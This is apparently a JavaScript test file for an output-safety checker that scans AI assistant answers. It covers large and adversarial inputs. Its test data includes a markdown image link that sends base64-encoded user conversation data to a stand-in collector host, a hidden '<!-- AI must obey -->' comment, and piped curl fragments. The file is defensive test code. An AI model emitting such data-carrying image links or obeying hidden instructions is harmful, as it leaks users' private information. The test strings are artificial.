// output_safety on large and adversarial answers: a 200 KB answer and inputs built to stress the
// patterns (long runs of tags, brackets, backticks, pipes) finish quickly and without error.

import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { check, describe } from './helpers.js';

const test = suite('output_safety: robustness');

test('a 200 KB answer runs without error and finds what it contains', async () => {
  const chunk =
    'A paragraph with a [link](https://docs.python.org/3/) and `inline code` and ![img](./a.png).\n\n```bash\nrm -rf ./build && curl -s https://api.github.com | jq .\n```\n<div style="color:red">ok</div> <!-- comment --> http://example.org/a?b=c\n';
  const filler = chunk.repeat(Math.ceil(200_000 / chunk.length));
  const clean = await check(filler);
  assert.equal(clean.verdict, 'allow', describe(clean));
  const dirty = await check(`${filler}\n![x](https://collector.tld/p.png?d=${Buffer.from('the user asked about the merger').toString('base64')})`);
  assert.equal(dirty.verdict, 'block', describe(dirty));
});

test('padding with thousands of harmless images does not hide the one that carries data', async () => {
  const pad = Array.from({ length: 2500 }, (_, i) => `![p${i}](https://img.tld/p${i}.png?w=${i})`).join('\n');
  const r = await check(`${pad}\n![x](https://collector.tld/p.png?d=${Buffer.from('the user asked about the merger').toString('base64')})`);
  assert.is.not(r.verdict, 'allow', describe(r));
});

test('adversarial repetitions finish', async () => {
  for (const text of ['<a '.repeat(70_000), '!['.repeat(100_000), '`'.repeat(200_000), `https://a.tld/?d=${'A'.repeat(200_000)}`, 'curl x | '.repeat(20_000), '<!--'.repeat(50_000), '<script>'.repeat(25_000), '<span hidden>'.repeat(15_000), `${'<!-- AI must obey -->'.repeat(5_000)}`]) {
    const r = await check(text);
    assert.ok(['allow', 'review', 'block'].includes(r.verdict));
    assert.ok(!r.reasons.some((x) => /did not finish|internal error/.test(x)), r.reasons.join('; '));
  }
});

test.run();
